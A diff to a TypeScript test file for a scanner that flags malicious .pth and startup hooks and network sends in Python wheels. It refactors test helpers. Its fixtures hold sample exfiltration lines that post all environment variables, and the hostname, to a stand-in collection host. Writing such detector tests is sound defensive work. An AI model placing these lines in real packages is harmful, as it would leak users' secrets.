@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest';
 import { analyseArchive } from '../../src/analysis/analyse-archive.js';
+import type { Finding } from '../../src/core/finding.js';
 import { loadPythonParser } from '../../src/python/parser.js';
 import * as rules from '../../src/rules/registry.js';
 import { inFolder } from '../archive/reading.js';
@@ -9,15 +10,20 @@ import { join } from 'node:path';
 
 const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
 
-/** What is found in a wheel with this file beside the package, with the line, and how grave it is. */
-async function found(text: string | Buffer, path = 'garden.pth'): Promise<readonly string[]> {
+/** All that is found in a wheel with these files. */
+async function findingsIn(files: Readonly<Record<string, string | Buffer>>): Promise<readonly Finding[]> {
   const name = 'garden-1.0-py3-none-any.whl';
-  const files = { 'garden/__init__.py': '', 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', [path]: text };
+  const members = { 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', ...files };
   return await inFolder(async (folder) => {
-    await writeFile(join(folder, name), zipOf(Object.entries(files).map(([member, data]) => ({ name: member, data }))));
-    const { findings } = await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null });
-    return findings.filter(({ file }) => file === path).map(({ rule, line, severity }) => `${severity} ${rule} ${line}`);
+    await writeFile(join(folder, name), zipOf(Object.entries(members).map(([member, data]) => ({ name: member, data }))));
+    return (await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null })).findings;
   });
+}
+
+/** What is found in this file beside the package, with the line, and how grave it is. */
+async function found(text: string | Buffer, path = 'garden.pth'): Promise<readonly string[]> {
+  const findings = await findingsIn({ 'garden/__init__.py': '', [path]: text });
+  return findings.filter(({ file }) => file === path).map(({ rule, line, severity }) => `${severity} ${rule} ${line}`);
 }
 
 const SENDS = 'import os, requests; requests.post("https://collect.example.invalid", json=dict(os.environ))';
@@ -58,15 +64,10 @@ test('a hook for which a variable has to ask warns, however long the text is tha
 // Worth a word in a function that nobody calls, and a block where Python calls it whenever it starts.
 const TELLS_HOST = 'import requests, socket\n\ndef run():\n    requests.post("https://collect.example.invalid", json=[socket.gethostname()])\n';
 
-/** What is found in a wheel with these files, by file. */
+/** What starts with Python, and what is sent, by file. */
 async function foundIn(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
-  const name = 'garden-1.0-py3-none-any.whl';
-  const members = { 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', ...files };
-  return await inFolder(async (folder) => {
-    await writeFile(join(folder, name), zipOf(Object.entries(members).map(([member, data]) => ({ name: member, data }))));
-    const { findings } = await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null });
-    return findings.filter(({ rule }) => /^executable-pth$|-to-network$/.test(rule)).map(({ rule, file, line, severity }) => `${severity} ${rule} ${file}:${line}`);
-  });
+  const findings = (await findingsIn(files)).filter(({ rule }) => /^executable-pth$|-to-network$/.test(rule));
+  return findings.map(({ rule, file, line, severity }) => `${severity} ${rule} ${file}:${line}`);
 }
 
 test('a function that a .start file names runs whenever Python starts', async () => {
